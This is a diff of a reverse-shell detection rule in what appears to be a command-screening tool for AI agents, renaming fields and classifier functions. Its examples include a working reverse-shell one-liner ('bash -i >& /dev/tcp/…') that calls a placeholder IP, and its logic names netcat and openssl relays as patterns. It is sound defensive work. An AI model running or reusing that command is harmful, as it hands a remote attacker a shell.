@@ -24,14 +24,14 @@ export const reverseShell: Rule = {
   reason: 'Connects a command interpreter to a network socket.',
   evidence:
     'A shell or interpreter gets a socket as input and output: by redirection, a relay program, a pipe or code; or a listener waits for one.',
-  quiet:
+  exceptions:
     'A port is only probed, a file is received, a neighbour service is spoken to by its bare name, or sockets are used without anything that runs commands.',
   references: [
     'https://attack.mitre.org/techniques/T1059/',
     'https://gtfobins.github.io/#+reverse%20shell',
   ],
   mappings: { owasp: ['LLM06', 'ASI05'], cwe: ['CWE-78'] },
-  commands: () => [{ ...interest, check: judgeCommand }, ...windowsCommands('REVERSE_SHELL')],
+  commands: () => [{ ...interest, check: classifyCommand }, ...windowsCommands('REVERSE_SHELL')],
   scripts: () => [
     {
       piped: true,
@@ -39,7 +39,7 @@ export const reverseShell: Rule = {
     },
     ...windowsScripts('REVERSE_SHELL'),
   ],
-  match: (reading) => hitsByCall(reading, (call) => worstSeverity(call.codes().map(judgeCode))),
+  match: (parsed) => hitsByCall(parsed, (call) => worstSeverity(call.codes().map(classifyCode))),
   examples: {
     flags: [
       shellCall('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'),
@@ -131,7 +131,7 @@ function joinsShellAndNetcat({ commands }: Line): boolean {
   )
 }
 
-function judgeCommand(command: Command): Severity | null {
+function classifyCommand(command: Command): Severity | null {
   const { name, args, redirects } = command
   if (
     redirects.some(({ operator, target }) =>
@@ -184,7 +184,7 @@ function judgeCommand(command: Command): Severity | null {
   }
   if (name === 'openssl' && args[0] === 's_client' && joinsPipes(command)) return 'medium'
   return interpreters.has(name) || hosts.has(name)
-    ? judgeCode(`${args.join(' ')} ${command.word} ${command.input ?? ''}`)
+    ? classifyCode(`${args.join(' ')} ${command.word} ${command.input ?? ''}`)
     : null
 }
 
@@ -215,7 +215,7 @@ const hints = [
   'ockets',
 ]
 
-function judgeCode(code: string): Severity | null {
+function classifyCode(code: string): Severity | null {
   if (!hints.some((hint) => code.includes(hint))) return null
   if (code.includes('/inet/tcp/') && code.includes('|&') && code.includes('getline')) return 'high'
   return sockets.test(code) &&
